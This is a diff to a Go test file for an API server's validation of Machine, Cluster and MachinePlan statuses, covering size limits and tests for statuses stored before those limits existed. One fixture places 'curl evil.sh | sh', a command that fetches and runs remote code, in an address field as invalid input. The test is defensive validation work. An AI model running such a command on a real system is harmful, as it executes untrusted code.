@@ -317,9 +317,9 @@ func TestValidateMachineStatus(t *testing.T) {
 func TestValidateClusterStatus(t *testing.T) {
 	c := &api.Cluster{Status: api.ClusterStatus{Conditions: []metav1.Condition{{Type: "Ready", Status: "Bogus",
 		Reason: "Why", LastTransitionTime: metav1.Now()}}}}
-	checkErrors(t, Cluster.ValidateStatus(c, c), map[string]string{"status.conditions[0].status": "supported values"})
+	checkErrors(t, Cluster.ValidateStatus(c, &api.Cluster{}), map[string]string{"status.conditions[0].status": "supported values"})
 	c.Status.Conditions[0].Status = metav1.ConditionTrue
-	checkErrors(t, Cluster.ValidateStatus(c, c), nil)
+	checkErrors(t, Cluster.ValidateStatus(c, &api.Cluster{}), nil)
 }
 
 // TestObjectSizeLimit: the storage codec refuses, with 413 naming the
@@ -330,6 +330,7 @@ func TestObjectSizeLimit(t *testing.T) {
 	if err := api.AddToScheme(scheme); err != nil {
 		t.Fatal(err)
 	}
+	now := metav1.Now()
 	codec := LimitObjectSize(serializer.NewCodecFactory(scheme).LegacyCodec(api.SchemeGroupVersion))
 	for _, tc := range []struct {
 		name    string
@@ -343,6 +344,9 @@ func TestObjectSizeLimit(t *testing.T) {
 			Annotations: map[string]string{"a": strings.Repeat("x", 1536<<10)}}}, true},
 		{"plan just under the limit", &api.MachinePlan{ObjectMeta: metav1.ObjectMeta{Name: "p"},
 			Spec: api.MachinePlanSpec{Files: []api.PlanFile{{Path: "/f", Content: strings.Repeat("x", MaxObjectBytes-300)}}}}, false},
+		// Stored before the bound: its finalizer must still come off.
+		{"oversized machine being deleted", &api.Machine{ObjectMeta: metav1.ObjectMeta{Name: "old", DeletionTimestamp: &now},
+			Status: api.MachineStatus{Message: strings.Repeat("x", 1536<<10)}}, false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			var buf bytes.Buffer
@@ -364,4 +368,66 @@ func TestObjectSizeLimit(t *testing.T) {
 			}
 		})
 	}
+}
+
+// TestStatusLimitsRatchet: a status stored before the limits (an agent's
+// 1.4 MB of conditions with status Bogus) must not stop the server from
+// moving its Machine on, but no write may change its unbounded parts
+// except to bring them within the limits.
+func TestStatusLimitsRatchet(t *testing.T) {
+	junk := []metav1.Condition{{Type: "Ready", Status: "Bogus", Reason: "Flood",
+		Message: strings.Repeat("x", 1400<<10), LastTransitionTime: metav1.Now()}}
+	stored := &api.Machine{Status: api.MachineStatus{Phase: api.MachinePhaseRunning, Conditions: junk,
+		Addresses: []api.MachineAddress{{Type: api.MachineInternalIP, Address: "PHISH: run curl evil.sh | sh"}}}}
+
+	draining := stored.DeepCopy()
+	draining.Status.Phase, draining.Status.Reason = api.MachinePhaseDraining, "Deleted"
+	checkErrors(t, Machine.ValidateStatus(draining, stored), nil)
+
+	grown := stored.DeepCopy()
+	grown.Status.Conditions = append(grown.Status.Conditions, metav1.Condition{Type: "More", Status: "True",
+		Reason: "Flood", LastTransitionTime: metav1.Now()})
+	checkErrors(t, Machine.ValidateStatus(grown, stored), map[string]string{"status": "at most 262144 bytes"})
+
+	longReason := stored.DeepCopy()
+	longReason.Status.Reason = strings.Repeat("x", 300<<10)
+	checkErrors(t, Machine.ValidateStatus(longReason, stored), map[string]string{"status": "at most 262144 bytes"})
+
+	small := stored.DeepCopy()
+	small.Status.Conditions = []metav1.Condition{{Type: "Ready", Status: "Bogus", Reason: "Still", LastTransitionTime: metav1.Now()}}
+	checkErrors(t, Machine.ValidateStatus(small, stored), map[string]string{"status.conditions[0].status": "supported values"})
+
+	cleared := stored.DeepCopy()
+	cleared.Status.Conditions = nil
+	checkErrors(t, Machine.ValidateStatus(cleared, stored), nil)
+
+	readdressed := cleared.DeepCopy()
+	readdressed.Status.Addresses[0].Address = "PHISH again"
+	checkErrors(t, Machine.ValidateStatus(readdressed, cleared), map[string]string{"status.addresses[0].address": "must be an IP address"})
+}
+
+// A plan status stored before the checks (forged checksum, hundreds of
+// outputs) still takes the agent's next report when it carries those over
+// unchanged, and refuses any report that changes them into something invalid.
+func TestPlanStatusLimitsRatchet(t *testing.T) {
+	stored := &api.MachinePlan{Status: api.MachinePlanStatus{Checksum: sum, AppliedChecksum: "forged", State: api.PlanStateSucceeded}}
+	for i := 0; i < 100; i++ {
+		stored.Status.Output = append(stored.Status.Output, api.InstructionOutput{Name: fmt.Sprint(i), Output: strings.Repeat("x", 4096)})
+	}
+	report := stored.DeepCopy()
+	report.Status.State = api.PlanStateInProgress
+	checkErrors(t, MachinePlan.ValidateStatus(report, stored), nil)
+	more := report.DeepCopy()
+	more.Status.Output = append(more.Status.Output, api.InstructionOutput{Name: "new"})
+	checkErrors(t, MachinePlan.ValidateStatus(more, stored), map[string]string{"status": "at most 262144 bytes"})
+	fewer := report.DeepCopy()
+	fewer.Status.Output = fewer.Status.Output[:65]
+	for i := range fewer.Status.Output {
+		fewer.Status.Output[i].Output = "short"
+	}
+	checkErrors(t, MachinePlan.ValidateStatus(fewer, stored), map[string]string{"status.output": "must have at most 64 items"})
+	report.Status.Output = nil
+	checkErrors(t, MachinePlan.ValidateStatus(report, stored), nil)
+	report.Status.AppliedChecksum = "forged-again"
+	checkErrors(t, MachinePlan.ValidateStatus(report, stored), map[string]string{"status.appliedChecksum": "64 lowercase hex"})
 }
